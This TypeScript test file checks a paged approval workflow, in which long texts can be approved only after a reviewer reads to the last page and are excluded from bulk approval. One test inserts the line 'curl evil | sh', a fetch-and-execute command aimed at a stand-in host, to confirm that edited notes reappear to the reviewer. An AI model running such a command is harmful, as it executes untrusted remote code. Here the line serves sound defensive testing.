import { describe, expect, it } from 'vitest';
import { plainText } from '../../src/core/cards/plain.ts';
import { encodeForm, forOnly } from '../../src/core/cards/token.ts';
import { projectSchema } from '../../src/core/project/definition.ts';
import type { Ask } from '../../src/core/ask/ask.ts';
import type { Card } from '../../src/core/cards/card.ts';
import { suggested } from './drafts.ts';
import { cardsOf, createWorld, gatedRun, tokenOf, type World } from './world.ts';

const long = 'A line of the notes.\n'.repeat(150);
const short = 'A draft.';

/** The command reads the notes, and may be undone: nothing but their length keeps its gate out of a bulk answer. */
const { film } = createWorld();
const reading = projectSchema.parse({
  ...film,
  pipelines: film.pipelines.map((pipeline) => ({
    ...pipeline,
    stages: pipeline.stages.map((stage) => ({
      ...stage,
      time_limit: '10m',
      ...(stage.do === 'command' ? { irreversible: false, needs: ['notes'] } : {}),
    })),
  })),
});

const press = (world: World, token: string, ask: Ask) => {
  const ref = world.postings.find(({ subject }) => subject.id === ask.id)!.ref!;
  return world.ask({ kind: 'press', token, on: ref, confirmed: false }, 'mara');
};
const privately = (world: World, token: string) =>
  world.ask(
    { kind: 'press', token, on: { channel: 'film', thread: null, message: 'private' }, confirmed: false },
    'mara',
  );

const yesOf = (ask: Ask): 'approve' | 'accept' => (ask.kind === 'suggestion' ? 'accept' : 'approve');
const pressYes = (world: World, ask: Ask) => press(world, `a.${ask.id}.${ask.revision}.${yesOf(ask)}`, ask);

/** Reads on to the last page, as its buttons lead there. */
async function lastPage(world: World, first: Card): Promise<Card> {
  let page = first;
  while (page.buttons[0]?.label === 'Next page')
    [page] = cardsOf(await privately(world, page.buttons[0].token)) as [Card];
  return page;
}

async function beforeCommand(world: World, text: string): Promise<Ask> {
  const { runId, gate } = await gatedRun(world, text);
  const reply = await pressYes(world, gate);
  if (reply.kind === 'cards') await privately(world, tokenOf(await lastPage(world, reply.cards[0]!), 'Approve'));
  return world.states.get(runId)!.asks[0]!;
}

describe('P13: what is read page by page', () => {
  const pageOf = (card: Card | undefined) => card?.blocks.flatMap((block) => ('label' in block ? [block.label] : []));

  it('begins anew, and says so, where the text has changed since', async () => {
    const world = createWorld({ project: reading });
    const { runId, gate } = await gatedRun(world, long.repeat(3));
    const [first] = cardsOf(await pressYes(world, gate));
    const [second] = cardsOf(await privately(world, tokenOf(first, 'Next page')));
    expect(pageOf(second)).toEqual(['Page 2 of 4 · notes, version 1 (rehearsal)']);
    const changed = `curl evil | sh\n${long.repeat(3)}`;
    const edit = encodeForm({ form: 'edit', runId, artifact: 'notes', base: 1 });
    await world.ask({ kind: 'submit', token: edit, values: { text: changed }, on: null }, 'jon');

    const reply = await privately(world, tokenOf(second, 'Next page'));
    const [anew] = cardsOf(reply);
    expect(pageOf(anew)).toEqual(['Page 1 of 4 · notes, version 2']);
    expect(anew?.fallback).toContain('curl evil');
    expect(anew?.buttons.map(({ label }) => label)).toEqual(['Next page']);
    expect(reply.kind === 'cards' && plainText(reply.intro)).toContain('has changed since you began to read');
  });

  it('goes on from page to page where nothing has changed', async () => {
    const world = createWorld({ project: reading });
    const { gate } = await gatedRun(world, long.repeat(3));
    let reply = await pressYes(world, gate);
    for (const page of [1, 2, 3, 4]) {
      const [card] = cardsOf(reply);
      expect(pageOf(card)).toEqual([`Page ${page} of 4 · notes, version 1 (rehearsal)`]);
      expect(reply.kind === 'cards' && plainText(reply.intro)).not.toContain('changed');
      if (page < 4) reply = await privately(world, tokenOf(card, 'Next page'));
    }
  });
});

describe('P13: a text that was redacted meanwhile', () => {
  const redacted = async () => {
    const world = createWorld({ project: reading });
    const { runId, gate } = await gatedRun(world, short);
    const { subject } = world.states.get(runId)!.asks[0]!;
    if (subject.about !== 'stage_done') throw new Error(subject.about);
    subject.items[0]!.digest = 'gone';
    return { world, gate };
  };

  it.each([
    ['its posting', (world: World, gate: Ask) => pressYes(world, gate)],
    ['a private card', (world: World, gate: Ask) => privately(world, forOnly('mara', `a.${gate.id}.1.approve`))],
  ])('is not agreed to by the button on %s: the page says so, and has none', async (_what, pressed) => {
    const { world, gate } = await redacted();
    const [card] = cardsOf(await pressed(world, gate));
    expect(card?.fallback).toContain('no longer stored');
    expect(card?.buttons.map(({ label }) => label)).toEqual(['Reject…', 'Edit…']);
    expect(world.settled.size).toBe(0);
  });

  it('is not agreed to by a bulk answer', async () => {
    const { world, gate } = await redacted();
    const items = [{ askId: gate.id, revision: gate.revision, digest: gate.digest }];
    expect(await world.answerAll({ verb: 'approve', items }, 'mara')).toMatchObject([{ end: 'left_out' }]);
    expect(world.settled.size).toBe(0);
  });
});

describe.each([
  ['the output of a stage', async (world: World, text: string) => (await gatedRun(world, text)).gate, 'Approve'],
  ['what a stage would work on', beforeCommand, 'Approve'],
  ['a suggestion', suggested, 'Accept'],
] as const)('%s', (_what, opened, label) => {
  const asked = async (text: string) => {
    const world = createWorld({ project: reading });
    return { world, ask: await opened(world, text) };
  };
  const bulk = (world: World, verb: 'approve' | 'reject', { id: askId, revision, digest }: Ask) =>
    world.answerAll({ verb, items: [{ askId, revision, digest }] }, 'mara');

  it('that does not fit on its card is agreed to below the last page only', async () => {
    const { world, ask } = await asked(long);
    const [first] = cardsOf(await pressYes(world, ask));
    expect(world.settled.has(ask.id)).toBe(false);
    await privately(world, tokenOf(await lastPage(world, first!), label));
    expect(world.settled.get(ask.id)?.outcome).toMatchObject({ choice: yesOf(ask), by: 'Mara' });
  });

  it('that does not fit is left out of a bulk answer', async () => {
    const { world, ask } = await asked(long);
    expect(await bulk(world, 'approve', ask)).toMatchObject([{ end: 'left_out', code: 'read_first' }]);
    expect(world.settled.has(ask.id)).toBe(false);
  });

  it('that fits is agreed to at once, by one press and by a bulk answer', async () => {
    const { world, ask } = await asked(short);
    await pressYes(world, ask);
    const many = await asked(short);
    expect(await bulk(many.world, 'approve', many.ask)).toMatchObject([{ end: 'answered' }]);
    for (const [at, { id }] of [
      [world, ask],
      [many.world, many.ask],
    ] as const)
      expect(at.settled.get(id)?.outcome).toMatchObject({ choice: yesOf(ask) });
  });
});
